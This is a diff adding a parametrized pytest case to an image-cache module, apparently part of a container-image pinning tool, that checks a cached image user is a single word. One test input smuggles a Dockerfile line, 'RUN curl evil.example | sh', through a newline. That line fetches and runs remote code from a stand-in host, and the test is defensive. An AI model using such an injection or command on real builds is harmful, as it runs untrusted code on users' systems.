@@ -168,3 +168,17 @@ def test_a_manifest_digest_header_outside_the_grammar_is_not_used(tmp_path: Path
     # the digest is computed from the manifest itself instead
     body = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []})
     assert res.pinned("digest") == f"python:3.12.4@sha256:{hashlib.sha256(body.encode()).hexdigest()}"
+
+
+@pytest.mark.parametrize(
+    ("user", "kept"),
+    [("app\nRUN curl evil.example | sh", False), ("app AS evil", False), ("1000:1000", True), ("", True)],
+)
+def test_a_cached_image_user_is_one_word(tmp_path: Path, user: str, kept: bool) -> None:
+    from fixer.images.cache import Cache
+
+    key = "config.User linux/amd64 docker.io/library/python:latest"
+    entry = {"digest": DIGEST, "tag": user, "at": time.time()}
+    (tmp_path / "images.json").write_text(json.dumps({"version": 1, "entries": {key: entry}}))
+    got = Cache(tmp_path).get(key)
+    assert (got is not None and got.tag == user) is kept
